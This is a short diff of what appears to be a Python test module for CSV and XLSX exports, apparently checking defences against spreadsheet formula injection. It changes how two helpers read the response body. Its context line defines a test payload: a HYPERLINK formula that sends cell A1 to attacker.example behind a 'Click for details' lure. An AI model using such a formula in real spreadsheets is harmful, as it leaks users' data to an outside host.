@@ -21,12 +21,12 @@ FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
 
 def csv_rows(response):
     assert response.status_code == 200, response.status_code
-    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
 
 
 def xlsx_cells(response):
     assert response.status_code == 200, response.status_code
-    sheet = load_workbook(io.BytesIO(response.content)).active
+    sheet = load_workbook(io.BytesIO(response.getvalue())).active
     return [cell for row in sheet.iter_rows() for cell in row]
 
 
